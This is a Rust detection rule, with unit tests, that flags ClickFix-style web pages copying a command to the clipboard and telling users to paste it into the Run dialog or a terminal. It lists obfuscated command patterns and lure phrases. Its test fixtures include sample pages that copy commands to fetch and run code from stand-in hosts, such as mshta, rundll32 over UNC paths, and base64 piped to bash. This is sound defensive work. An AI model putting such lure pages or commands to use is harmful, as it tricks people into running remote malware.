//! A page that puts a command into the clipboard and tells the reader to paste it where it runs (ClickFix). Manuals have
//! buttons that copy commands too; they do not ask for the window in which Windows runs one, and hide nothing.

use super::{Check, Heuristic};
use crate::artifact::{Sign, Tree};
use crate::detect::Strength;
use crate::detect::scripts::{Bundle, pages};

pub(super) const RULE: Heuristic = Heuristic {
    id: "html-copies-command",
    strength: Strength::Strong,
    title_en: "The web page copies a command and has the reader run it",
    title_ja: "Webページがコマンドをコピーし、利用者に実行させようとします",
    attack: &["T1204.004", "T1059", "T1115"],
    page: include_str!("../../../docs/rules/html-copies-command.md"),
    check,
};

fn check(tree: &Tree, hit: &mut Check) {
    for page in pages(tree) {
        if let Some(command) = page
            .all(Sign::FillsClipboard)
            .find(|command| hides(command) || tells(&page) || page.has(Sign::ChoppedText))
        {
            hit(page.holder.id, command.to_string());
        }
    }
}

/// Whether a command hides what it does, or runs what lies on the computer of a stranger. No manual has that copied.
fn hides(command: &str) -> bool {
    let plain = command.to_lowercase().replace(['"', '^', '`'], "").replace(".exe", "");
    HIDING.iter().any(|words| words.iter().all(|word| plain.contains(word)))
}

/// Words of commands that hide; all of one line stand there.
const HIDING: &[&[&str]] = &[
    &["base64 -d", "|"],
    &["base64 --decode", "|"],
    &["frombase64string"],
    &["powershell", " -e ", "=="],
    &["powershell", " -enc"],
    &["powershell", "-w h"],
    &["powershell", "-windowstyle h"],
    &["powershell", "-w 1"],
    &["conhost", "--headless"],
    &["mshta", "http"],
    &["mshta", "vbscript:"],
    &["mshta", "javascript:"],
    &["rundll32", "\\\\"],
    &["regsvr32", "http"],
    &["regsvr32", "\\\\"],
    &["msiexec", "/q", "http"],
    &["msiexec", "-q", "http"],
];

/// How readers are told to open the window that runs commands, and to paste. Blanks are taken out of the text.
const TELLING: &[&str] = &[
    "win+r",
    "windows+r",
    "windowskey+r",
    "winkey+r",
    "⊞+r",
    "windowsbutton+r",
    "winとr",
    "windowsキー+r",
    "windowsロゴキー+r",
    "windows+x",
    "win+x",
    "ctrl+v",
    "control+v",
    "strg+v",
    "windows-taste+r",
    "windowstaste+r",
    "touchewindows+r",
    "teclawindows+r",
    "tastowindows+r",
    "command+v",
    "cmd+v",
    "⌘v",
    "⌘+v",
    "ctrl+l",
    "openfileexplorer",
    "ファイル名を指定して実行",
    "rundialog",
    "runwindow",
    "notarobot",
    "youarehuman",
    "iamhuman",
    "i'mhuman",
    "youarenotarobot",
    "ロボットではありません",
    "人間であること",
];

/// Whether the page tells so, in what it shows or in its scripts.
fn tells(page: &Bundle) -> bool {
    let shown = page.members().filter(|artifact| artifact.via == "text" || artifact.kind.id == "js");
    shown.into_iter().any(|artifact| {
        let plain: String = String::from_utf8_lossy(&artifact.bytes)
            .chars()
            .filter(|c| !c.is_whitespace())
            .flat_map(char::to_lowercase)
            .map(|c| if c == '＋' { '+' } else { c })
            .collect();
        TELLING.iter().any(|words| plain.contains(words))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::scripts::tests::hits;

    #[test]
    fn pages_that_have_a_command_pasted_hit() {
        for page in [
            "<html><p>Press Win + R, then Ctrl + V</p><script>navigator.clipboard.writeText('powershell -w hidden -c x');</script>",
            "<html><p>1. ファイル名を指定して実行 を開く</p><script>t.value='mshta https://a.example/x';t.select();document.execCommand('copy');</script>",
            "<html><p>⌘ + V in Terminal: I am human</p><script>navigator.clipboard.writeText('echo eA== | base64 -d | bash');</script>",
            "<html><p>Open File Explorer, press CTRL + L</p><script>navigator.clipboard.writeText('powershell -c x     # C:\\\\a.docx');</script>",
            "<html><p>Fix it</p><script>navigator.clipboard.writeText('rundll32.exe \\\\\\\\203.0.113.9@80\\\\a\\\\x.dll,#1');</script>",
            "<html><p>Open Terminal</p><script>b.onclick=()=>navigator.clipboard.writeText(`echo \"aW5lcnQ=\" | base64 -d | bash`)</script>",
            "<html><p>check</p><script>navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtdyBoaWRkZW4gLWMgeA=='));</script>",
            "<html><p>check</p><script>var c=['mshta',' https',':','//a.exam','ple/x'].join('');navigator.clipboard.writeText(c);</script>",
        ] {
            assert_eq!(hits(&RULE, "a.html", page.as_bytes()).len(), 1, "{page}");
        }
    }

    #[test]
    fn manuals_with_copy_buttons_do_not() {
        for page in [
            "<html><p>Install</p><script>navigator.clipboard.writeText('curl -fsSL https://a.example/install.sh');</script>",
            "<html><p>Press Ctrl+V to paste.</p><script>navigator.clipboard.writeText(b.innerText);</script>",
            "<html><p>Press Win + R and type powershell.</p>",
            "<html><p>Update</p><script>navigator.clipboard.writeText('winget upgrade --all');x('msiexec /i a.msi');</script>",
            "<html><p>Open Terminal and paste</p><script>navigator.clipboard.writeText('curl -fsSL https://a.example/i.sh | bash');</script>",
        ] {
            assert_eq!(hits(&RULE, "a.html", page.as_bytes()), [""; 0], "{page}");
        }
    }
}
